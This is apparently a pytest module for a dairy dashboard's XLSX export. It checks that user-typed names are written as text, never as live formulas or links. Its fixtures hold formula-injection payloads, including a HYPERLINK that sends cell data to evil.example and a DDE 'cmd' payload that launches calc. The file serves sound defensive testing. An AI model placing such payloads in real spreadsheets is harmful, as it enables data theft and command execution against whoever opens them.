"""Issue 9, finding 7: names typed by users are written to XLSX exports as text,
never as live formulas or links (a customer named ``=HYPERLINK(...)``)."""

import io
import re
import zipfile

import pytest
from smart_dairy.export import dashboard_xlsx

openpyxl = pytest.importorskip("openpyxl")

pytestmark = pytest.mark.filterwarnings("ignore:Sparkline Group extension:UserWarning")

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = [EVIL, "=1+2", "@SUM(A1:A2)", "http://evil.example/", "+cmd|' /C calc'!A0", "0042"]
KPI = {
    "code": "REVENUE",
    "name": EVIL,
    "unit": "",
    "display_format": "currency",
    "polarity": "higher",
    "fact_model": "smart.dairy.fact.sales",
}


def _widget(wid, kind, title, data, note=""):
    return {
        "id": wid,
        "type": kind,
        "title": title,
        "note": note,
        "options": {"stacked": False, "horizontal": False, "top_n": 0},
        "kpis": [KPI],
        "data": data,
        "empty": False,
    }


def _point(value):
    return {"label": EVIL, "value": value, "previous": None, "last_year": None, "target": None}


@pytest.fixture
def content():
    """A dashboard whose every user-typed text is hostile."""
    labels = HOSTILE
    data = {
        "dashboard": {"id": 1, "name": EVIL},
        "filters": {"preset": "custom", "date_from": "2025-01-01", "date_to": "2025-01-06"},
        "grain": "day",
        "currency": {"symbol": "€", "position": "after", "digits": 2},
        "widgets": [
            _widget(1, "kpi_card", EVIL, {"current": _point(1.0), "series": [1.0, 2.0]}, EVIL),
            _widget(
                2,
                "bar",
                "=SUM(1,2)",
                {
                    "breakdown": "partner_id",
                    "labels": labels,
                    "keys": [str(i) for i in range(len(labels))],
                    "datasets": [{"code": "REVENUE", "label": EVIL, "values": [1.0] * 6}],
                },
                note=EVIL,
            ),
            _widget(
                3,
                "line",
                "Trend",
                {
                    "labels": labels,
                    "periods": [f"2025-01-0{day}" for day in range(1, 7)],
                    "datasets": [
                        {"code": "REVENUE", "label": EVIL, "values": [1.0] * 6, "targets": []}
                    ],
                },
            ),
            _widget(
                4,
                "heatmap",
                "Heat",
                {"x_labels": HOSTILE[:2], "y_labels": labels, "values": [[1.0, 2.0]] * 6},
            ),
        ],
        "alerts": [],
    }
    return dashboard_xlsx(data, {"region_ids": [EVIL], "farm_ids": HOSTILE})


def test_no_sheet_holds_a_formula_or_a_link(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4
        for name in sheets:
            xml = archive.read(name).decode()
            assert not re.search(r"<f[ >]", xml), f"formula in {name}"
            assert "<hyperlink" not in xml, f"link in {name}"
        assert not any("externalLink" in name for name in archive.namelist())


def test_hostile_texts_read_back_as_the_same_text(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(HOSTILE) <= texts
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert book["Summary"]["A1"].value == EVIL
